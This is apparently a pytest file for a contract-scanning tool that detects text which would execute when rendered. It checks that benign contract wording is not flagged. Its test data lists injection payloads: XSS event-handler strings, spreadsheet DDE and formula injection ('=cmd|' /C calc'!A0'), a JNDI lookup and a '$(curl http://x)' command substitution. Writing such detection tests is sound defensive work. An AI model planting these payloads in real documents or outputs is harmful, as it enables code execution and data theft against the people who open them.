"""Words that would act elsewhere are observed; what contracts write is not."""

import time
from dataclasses import replace

import pytest

from clausecheck.model import Trace
from clausecheck.scan.acting import acting
from clausecheck.scan.escapes import MOST, escapes
from tests.terms.making import document

ACTING = {
    "output.markup": [
        "[bold red]x[/]", "[/bold]", "[link=https://x.example]y[/link]", "[white on white]z", "[url=http://x]y[/url]",
        "[#fff on #fff]z", "[blink]z", "[@click=app.quit]z[/]",
    ],
    "output.html": [
        "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<script>alert(1)</script>",
        "<details open ontoggle=alert(1)>", "<iframe srcdoc='x'>", "<IMG SRC=x>",
        "<input autofocus onfocus=alert(1)>", "<img/src='x'/onerror=alert(1)//", "<meta http-equiv=refresh content=0>",
        "<object data=x>", "<form action='//x'>",
    ],
    "output.tag": [
        "<!-- gone -->", "<?php echo 1 ?>", "<% = x %>", "<div style='display:none'>", "<a href='//x'>y</a>",
        "<span class=x>y</span>", '<w:item data="1">', "<meta name=x content=y>",
    ],
    "output.bracket": ["[/expect]"],
    "output.image": ["![p](https://x.example/p.png)", "![](//x.example)", "![p][ref]"],
    "output.link": ["[here](https://x.example)", "[here](javascript:alert(1))", "[ref]: https://x.example/y"],
    "output.formula": [
        '=HYPERLINK("https://x","y")', '+WEBSERVICE("https://x")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", '=importxml(concat("http://x"),"//a")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
    ],
    "output.calculation": ["=SUM(A1:A9)", "@SUM(B2)"],
    "output.scheme": ["javascript:alert(1)", "vbscript:x", "data:text/html;base64,PHN2Zz4=", "search-ms:query=x&c=y"],
    "output.path": ["file:///C:/Users/ann/x.docx"],
    "output.command": ["${jndi:ldap://x/a}", "{{7*7}}", "{{ ''.__class__ }}", "$(curl http://x)"],
    "output.template": ["{% import 'os' %}", "{%- if x %}"],
    "output.sequence": ["\\x1b[31m red", "\\033[2J", "\\e]0;title", "^[[2K", "␛[1A"],
}  # fmt: skip
USUAL = [
    "[Signature page follows]", "[●]", "[***]", "[Insert name]", "[x]", "[i]", "[s]igned", "[date] [in letters]",
    "<Insert name>", "<PAGE>", "<TABLE>", "<S> <C>", "< $200 million 0% If >", "<<date>>", "<https://x.example>",
    "me@x.example, www.x.example", "John Doe <john@x.example>", "- a bullet", "+1 (212) 555-0100", "- POINT(s)",
    "Fee = MAX(a, b) x 12", "= 12 x the monthly fee", "on-CALL(24/7)", "[Customer](the “Client”)", "{P=A+B+C+D}",
    "{{Sig_es_:signer1:signature}}", "${***}", "{{ name }}", "${x}", "<<Firma>>",
    "a | b | c", "Data: text/plain forms", "JavaScript: the language",
    "see Schedule [1](a)", "{[(1R,2S)-2-cyclopropyl]amino}", "C:\\files\\x", "price -CALL option", "@home", "#5 + 3",
    "if x < y and z = 3 then", "and/or //", "$(10,000)", "[Red Team] members",
]  # fmt: skip


@pytest.mark.parametrize(("technique", "words"), [(name, one) for name, all_ in ACTING.items() for one in all_])
def test_words_that_act_are_told(technique: str, words: str) -> None:
    assert next(found for found, _, _ in acting(words)) == technique


@pytest.mark.parametrize("words", USUAL)
def test_words_of_contracts_are_not(words: str) -> None:
    assert list(acting(words)) == []


def test_what_belongs_together_is_one_quote_at_its_place() -> None:
    made = document("1. Fees.", 'See [bold red]Schedule[/] for =HYPERLINK("x") and, far below,', "[/] again.")
    found = list(escapes(made, ()))
    assert [(one.technique, one.quote) for one in found] == [
        ("output.markup", "[bold red]Schedule[/]"),
        ("output.markup", "[/]"),
        ("output.formula", '=HYPERLINK("x")'),
    ]
    assert all(made.text.startswith(one.quote, one.at or 0) for one in found)


def test_words_beside_the_text_are_looked_at_too() -> None:
    hidden = Trace(technique="docx.vanish", quote="<b onclick=x>\x1b[2J\x1b", part="word/header1.xml", at=3)
    link = Trace(technique="docx.link_scheme", quote="file:///C:/x.dotm <a b=c>")
    first, second = escapes(document("Plain words."), (hidden, link))
    assert (first.technique, first.quote, first.part, first.at) == (
        "output.html",
        "<b onclick=x>",
        "word/header1.xml",
        3,
    )
    assert (second.technique, second.detail) == ("output.control", "U+001B ×2")


def test_a_name_of_a_file_acts_too() -> None:
    (found,) = escapes(replace(document("Plain words."), name="a[/]b.txt"), ())
    assert (found.quote, found.part) == ("[/]", "the file's name")


def test_so_many_are_told_and_the_rest_counted() -> None:
    found = list(escapes(document(*["[/] words"] * (MOST + 5)), ()))
    assert len(found) == MOST
    assert found[-1].detail == "5 more of this kind are not listed"
    assert len(list(escapes(document(*["[/] words"] * MOST), ()))) == MOST


@pytest.mark.parametrize(
    "piece",
    [
        "<", "<a ", "<a b", "<form ", "<form a", "<a a=", "<a/", "[", "[/", "[b ", "![", "](", "[a](", "[a]: ",
        "=", "=A", "=A|'", "${",
        "{{", "{{0", "$(sh ", "\\x1b[", "^[", "javascript:", "data:text/", "a@", "<%", "<!--", "=HYPERLINK(", "\n=AAA",
    ],
)  # fmt: skip
def test_endless_pieces_end(piece: str) -> None:
    begun = time.process_time()
    assert sum(1 for _ in acting(piece * (100_000 // len(piece)))) <= 100_000
    assert time.process_time() - begun < 1
